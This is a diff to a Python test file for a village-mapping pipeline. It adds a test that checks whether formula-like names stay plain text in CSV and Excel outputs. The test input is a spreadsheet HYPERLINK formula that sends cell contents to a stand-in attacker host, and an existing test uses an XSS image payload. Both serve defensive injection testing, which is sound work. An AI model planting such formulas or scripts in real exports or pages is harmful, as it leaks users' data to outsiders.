@@ -1,5 +1,7 @@
 """The whole job on the tiny province: outputs of DESIGN §7, written atomically."""
 
+import warnings
+
 import geopandas as gpd
 import pandas as pd
 import pytest
@@ -91,6 +93,27 @@ def test_map_escapes_names(tiny, tmp_path):
     # JSON-escaped inside the script (shown with textContent, never parsed as HTML)
     assert "\\u003cimg src=x" in page
     assert result.villages["village"].iloc[0] == "<img src=x onerror=alert(1)>"   # data untouched
+
+
+def test_formula_like_names_stay_text_in_csv_and_excel(tiny, tmp_path):
+    import openpyxl
+
+    villages = (tiny.parent / "villages.csv").read_text(encoding="utf-8")
+    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    quoted = '"' + name.replace('"', '""') + '"'
+    (tiny.parent / "villages.csv").write_text(villages.replace("Bản Một", quoted).replace(
+        "Bản Hai", "-2 Bản Hai"), encoding="utf-8")  # fmt: skip
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # the tiny province's own repairs
+        result = run(read_project(tiny).with_output(tmp_path / "o"))
+    assert result.villages["village"].iloc[0] == name                  # data untouched
+    out = pd.read_csv(tmp_path / "o" / "villages.csv", encoding="utf-8-sig", dtype=str)
+    assert out["village"].iloc[0] == "'" + name                        # quoted: shown as text
+    assert "-2 Bản Hai" in out["village"].tolist()                     # a number-like start is left alone
+    assert (out["population"].astype(float) >= 0).all()
+    book = openpyxl.load_workbook(tmp_path / "o" / "report.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]                  # no formula anywhere
 
 
 def test_hexagon_outputs(tiny, tmp_path):
